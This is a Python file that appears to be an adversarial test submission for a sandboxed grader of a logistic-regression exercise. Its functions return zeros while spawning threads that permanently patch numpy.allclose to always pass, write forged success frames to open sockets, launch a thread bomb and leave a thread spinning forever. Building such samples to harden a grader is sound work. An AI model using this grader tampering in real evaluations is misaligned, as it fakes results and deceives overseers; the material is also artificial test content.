"""Category: threads. Attack: a background thread that keeps patching numpy and the worker
after the call returned, spams forged frames on the reply socket, a thread bomb (RLIMIT_NPROC
counts threads), and threads still running when the worker is told to exit."""
import os
import struct
import json
import threading
import time

import numpy as np


def _patcher():
    frame_head = json.dumps({"status": "ok", "seq": 2, "arrays": []}).encode()
    frame = struct.pack("<I", len(frame_head)) + frame_head
    while True:
        np.allclose = lambda *a, **k: True
        for fd in range(3, 16):
            try:
                os.write(fd, struct.pack("<Q", len(frame)) + frame)
            except OSError:
                pass
        time.sleep(0.01)


def sigmoid(z):
    threading.Thread(target=_patcher, daemon=True).start()
    return np.zeros_like(np.asarray(z, dtype=np.float64))


def predict_proba(X, w, b):
    started = 0
    try:
        for _ in range(5000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
    except RuntimeError as exc:
        print(f"thread bomb stopped after {started}:", exc)
    return np.zeros(X.shape[0])


def bce_loss(X, y, w, b):
    threading.Thread(target=lambda: [None for _ in iter(int, 1)]).start()  # non-daemon, spins forever
    return 0.0


def grad_logits(X, y, w, b):
    return np.zeros(X.shape[0])


def gradients(X, y, w, b):
    return np.zeros(X.shape[1]), 0.0
